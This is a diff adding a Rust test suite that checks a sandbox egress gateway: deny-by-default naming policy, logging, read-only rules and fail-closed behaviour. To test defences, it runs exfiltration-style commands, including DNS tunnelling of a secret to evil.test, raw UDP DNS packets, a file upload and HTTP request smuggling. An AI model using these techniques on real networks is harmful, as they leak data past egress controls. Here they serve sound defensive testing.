@@ -1,0 +1,243 @@
+//! Egress: a box reaches what its policy allows on the test internet, and
+//! nothing else; every attempt is in its log; the gateway is unprivileged
+//! and fails closed.
+
+use std::io::{BufRead, BufReader};
+use std::process::Stdio;
+use std::time::{Duration, Instant};
+
+use crate::fixture::unique;
+use crate::Env;
+
+/// Runs `script` with bash in box `name`; returns (exit status, stdout).
+fn sh(env: &Env, name: &str, script: &str) -> (Option<i32>, String) {
+    let ran = env.alice(Some(name), &["bash", "-c", script]);
+    (ran.status, ran.stdout)
+}
+
+/// A box whose root trusts the test CA.
+fn box_trusting_test_ca(env: &Env) -> String {
+    let name = unique("net");
+    env.new_box(&name, &[]);
+    let ca = env.net.ca();
+    let mut cmd = env.daemon.ssh(&env.alice, Some(&name), &["sh", "-c", "cat > /tmp/ca.pem"]);
+    cmd.stdin(Stdio::piped()).stdout(Stdio::null());
+    let mut child = cmd.spawn().unwrap();
+    std::io::Write::write_all(child.stdin.as_mut().unwrap(), ca.as_bytes()).unwrap();
+    drop(child.stdin.take());
+    assert!(child.wait().unwrap().success());
+    name
+}
+
+fn log(env: &Env, name: &str) -> String {
+    env.alice(None, &["log", name]).ok().stdout
+}
+
+pub fn deny_by_default_allow_by_name(env: &Env) {
+    let name = box_trusting_test_ca(env);
+    // An empty policy reaches nothing, and says so.
+    let policy = env.alice(None, &["policy", &name]).ok().stdout;
+    assert!(policy.contains("reaches nothing"), "{policy}");
+    let (status, _) = sh(env, &name, "curl -sS -m 5 http://web.test/");
+    assert_eq!(status, Some(6), "an unlisted name does not resolve");
+
+    env.alice(None, &["policy", &name, "allow", "web.test"]).ok();
+    let (status, out) = sh(env, &name, "curl -sS -m 10 http://web.test/a");
+    assert_eq!(status, Some(0));
+    assert_eq!(out, "GET /a host=web.test body=0\n");
+    let (status, out) = sh(env, &name, "curl -sS -m 10 --cacert /tmp/ca.pem https://web.test/b");
+    assert_eq!((status, out.as_str()), (Some(0), "GET /b host=web.test body=0\n"));
+    // Names resolve to fake addresses; the box never learns the real one.
+    let (_, out) = sh(env, &name, "getent ahostsv4 web.test | head -1");
+    assert!(out.starts_with("198.1"), "{out}");
+
+    // A policy change applies to the next connection.
+    env.alice(None, &["policy", &name, "deny", "web.test"]).ok();
+    let (status, _) = sh(env, &name, "curl -sS -m 5 --cacert /tmp/ca.pem https://web.test/");
+    assert_ne!(status, Some(0));
+
+    let log = log(env, &name);
+    for want in
+        ["allow http web.test:80 GET /a", "allow tcp  web.test:443", "DENY  tcp  web.test:443", "allow dns  web.test A"]
+    {
+        assert!(log.contains(want), "log lacks {want:?}:\n{log}");
+    }
+    let json = env.alice(None, &["log", &name, "--json"]).ok().stdout;
+    let first: serde_json::Value = serde_json::from_str(json.lines().next().unwrap()).unwrap();
+    assert!(first["verdict"].is_string() && first["kind"].is_string(), "{first}");
+    env.alice(None, &["rm", &name]).ok();
+}
+
+pub fn nothing_leaks_around_the_names(env: &Env) {
+    let name = box_trusting_test_ca(env);
+    env.alice(None, &["policy", &name, "allow", "web.test"]).ok();
+    env.alice(None, &["policy", &name, "allow", "private.test"]).ok();
+    env.alice(None, &["policy", &name, "allow", "loop.test"]).ok();
+    // DNS tunnelling: a name nobody allowed is answered NXDOMAIN without
+    // being asked upstream, however it is sent.
+    let secret = format!("s3cr3t{}", std::process::id());
+    let script = format!(
+        "getent hosts {secret}.evil.test; getent hosts {secret}.web.test; \
+         exec 3<>/dev/udp/{web}/53; printf '\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x{len:02x}{secret}\\x04test\\x00\\x00\\x01\\x00\\x01' >&3; \
+         timeout 2 head -c 12 <&3 | od -An -tx1",
+        web = crate::testnet::WEB,
+        len = secret.len()
+    );
+    let (_, out) = sh(env, &name, &script);
+    // The reply to the raw query came from the gateway: NXDOMAIN (rcode 3).
+    assert!(out.contains("12 34 85 83") || out.contains("12 34 81 83"), "raw DNS query answered: {out:?}");
+    assert!(!env.net.dns_queries().contains(&secret), "a denied name reached the upstream resolver");
+
+    // SNI or Host other than the dialled name; raw addresses; UDP.
+    let (status, _) = sh(
+        env,
+        &name,
+        "curl -sS -m 5 --cacert /tmp/ca.pem --connect-to other.test:443:web.test:443 https://other.test/",
+    );
+    assert_ne!(status, Some(0), "SNI other.test on a connection to web.test");
+    let (_, out) = sh(env, &name, "curl -sS -m 5 -H 'Host: other.test' http://web.test/");
+    assert!(out.contains("differs from the dialled name"), "{out}");
+    let (_, out) = sh(env, &name, "curl -sS -m 5 -H 'Host: web.test' -H 'Host: other.test' http://web.test/");
+    assert!(!out.contains("host=other.test"), "{out}");
+    for target in [crate::testnet::WEB, "1.1.1.1", "[2606:4700::1111]", "[::ffff:203.0.113.10]"] {
+        let (status, out) =
+            sh(env, &name, &format!("curl -sS -m 5 -k https://{target}/; curl -sS -m 5 http://{target}/"));
+        assert_ne!(status, Some(0), "raw address {target}: {out}");
+    }
+    sh(env, &name, &format!("echo leak > /dev/udp/{}/9999; sleep 0.5", crate::testnet::WEB));
+    assert!(env.net.udp_received().is_empty(), "UDP left the box");
+    // Allowed names whose answers are private or loopback are not dialled.
+    for host in ["private.test", "loop.test"] {
+        let (status, _) = sh(env, &name, &format!("curl -sS -m 5 http://{host}/"));
+        assert_ne!(status, Some(0), "{host}");
+    }
+    // The host's SSH port and other boxes are not reachable either.
+    let (status, _) = sh(env, &name, &format!("curl -sS -m 5 telnet://127.0.0.1:{} </dev/null", env.daemon.port));
+    assert_ne!(status, Some(0));
+
+    let log = log(env, &name);
+    for want in [
+        "SNI other.test differs from the dialled name",
+        "Host other.test differs from the dialled name",
+        "a raw address",
+        "DENY  dns  ",
+        "is not on the public internet",
+    ] {
+        assert!(log.contains(want), "log lacks {want:?}:\n{log}");
+    }
+    env.alice(None, &["rm", &name]).ok();
+}
+
+pub fn methods_and_presets(env: &Env) {
+    let name = unique("net");
+    env.new_box(&name, &["--policy", "github-read"]);
+    let policy = env.alice(None, &["policy", &name]).ok().stdout;
+    assert!(
+        policy.contains("allow GET,HEAD github.com") && policy.contains("deny  github.com/*git-receive-pack"),
+        "{policy}"
+    );
+    let json = env.alice(None, &["policy", &name, "--json"]).ok().stdout;
+    assert!(serde_json::from_str::<serde_json::Value>(&json).is_ok(), "{json}");
+    // Read-only rules, enforced on every request of a kept-alive connection.
+    env.alice(None, &["policy", &name, "preset", "none"]).ok();
+    env.alice(None, &["policy", &name, "allow", "GET,HEAD", "web.test"]).ok();
+    let (status, out) = sh(env, &name, "curl -sS -m 10 http://web.test/x http://web.test/y");
+    assert_eq!(status, Some(0));
+    assert_eq!(out, "GET /x host=web.test body=0\nGET /y host=web.test body=0\n");
+    let (_, out) = sh(
+        env,
+        &name,
+        "curl -sS -m 10 http://web.test/ok -d data -X POST; curl -sS -m 10 http://web.test/up -T /etc/hostname",
+    );
+    assert!(!out.contains("POST /ok") && !out.contains("PUT /up"), "writes got through: {out}");
+    assert!(out.contains("no rule allows this request"), "{out}");
+    // A POST hidden behind an allowed GET on the same connection.
+    let (_, out) = sh(
+        env,
+        &name,
+        "exec 3<>/dev/tcp/web.test/80; printf 'GET /1 HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\nPOST /2 HTTP/1.1\\r\\nHost: web.test\\r\\nContent-Length: 0\\r\\n\\r\\n' >&3; timeout 3 cat <&3",
+    );
+    assert!(out.contains("GET /1") && !out.contains("POST /2"), "{out}");
+    // Bad rules and presets are usage errors that change nothing.
+    for bad in [&["allow", "10.0.0.1"][..], &["allow", "x.test:0"], &["preset", "everything"], &["open", "x.test"]] {
+        let mut args = vec!["policy", name.as_str()];
+        args.extend_from_slice(bad);
+        let ran = env.alice(None, &args);
+        assert_eq!(ran.status, Some(2), "{bad:?}: {}", ran.stderr);
+    }
+    let log = log(env, &name);
+    assert!(log.contains("DENY  http web.test:80 POST /ok"), "{log}");
+    env.alice(None, &["rm", &name]).ok();
+}
+
+pub fn log_follow_streams(env: &Env) {
+    let name = unique("net");
+    env.new_box(&name, &[]);
+    env.alice(None, &["policy", &name, "allow", "web.test"]).ok();
+    let mut follower = env.daemon.ssh(&env.alice, None, &["log", &name, "--follow", "--json"]);
+    let mut child = follower.stdout(Stdio::piped()).stderr(Stdio::null()).spawn().unwrap();
+    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
+    sh(env, &name, "curl -sS -m 10 http://web.test/followed");
+    let deadline = Instant::now() + Duration::from_secs(10);
+    let mut seen = false;
+    while Instant::now() < deadline {
+        let Some(Ok(line)) = lines.next() else { break };
+        if line.contains("/followed") {
+            seen = true;
+            break;
+        }
+    }
+    let _ = child.kill();
+    let _ = child.wait();
+    assert!(seen, "log --follow did not show the request");
+    env.alice(None, &["rm", &name]).ok();
+}
+
+/// The gateway runs unprivileged and confined; killing it leaves boxes with
+/// no way out until it is back, never an open one.
+pub fn gateway_is_unprivileged_and_fails_closed(env: &Env) {
+    let name = unique("net");
+    env.new_box(&name, &[]);
+    env.alice(None, &["policy", &name, "allow", "web.test"]).ok();
+    sh(env, &name, "curl -sS -m 10 http://web.test/").0.filter(|s| *s == 0).expect("reachable first");
+    let gateway = gateway_pid(env);
+    let status = std::fs::read_to_string(format!("/proc/{gateway}/status")).unwrap();
+    for (field, want) in [("Uid:", "1048574"), ("CapEff:", "0000000000000000"), ("NoNewPrivs:", "1"), ("Seccomp:", "2")]
+    {
+        let line = status.lines().find(|l| l.starts_with(field)).unwrap();
+        assert!(line.contains(want), "{line}");
+    }
+    // Stopped, it answers nothing: no connection and no name gets out.
+    nix::sys::signal::kill(nix::unistd::Pid::from_raw(gateway as i32), nix::sys::signal::Signal::SIGSTOP).unwrap();
+    let (status, _) = sh(env, &name, "curl -sS -m 3 http://web.test/");
+    nix::sys::signal::kill(nix::unistd::Pid::from_raw(gateway as i32), nix::sys::signal::Signal::SIGKILL).unwrap();
+    assert_ne!(status, Some(0), "a box got out while its gateway was stopped");
+    // Restarted, the same box gets out again within seconds.
+    let deadline = Instant::now() + Duration::from_secs(10);
+    loop {
+        if sh(env, &name, "curl -sS -m 3 http://web.test/").0 == Some(0) {
+            break;
+        }
+        assert!(Instant::now() < deadline, "egress did not come back after the gateway restarted");
+        std::thread::sleep(Duration::from_millis(200));
+    }
+    assert_ne!(gateway_pid(env), gateway);
+    env.alice(None, &["rm", &name]).ok();
+}
+
+/// The daemon's gateway process.
+fn gateway_pid(env: &Env) -> u32 {
+    let deadline = Instant::now() + Duration::from_secs(5);
+    loop {
+        let children =
+            std::fs::read_to_string(format!("/proc/{0}/task/{0}/children", env.daemon.pid())).unwrap_or_default();
+        for pid in children.split_whitespace().filter_map(|p| p.parse::<u32>().ok()) {
+            let comm = std::fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
+            if comm.trim() == "moat-gateway" {
+                return pid;
+            }
+        }
+        assert!(Instant::now() < deadline, "no gateway process");
+        std::thread::sleep(Duration::from_millis(50));
+    }
+}
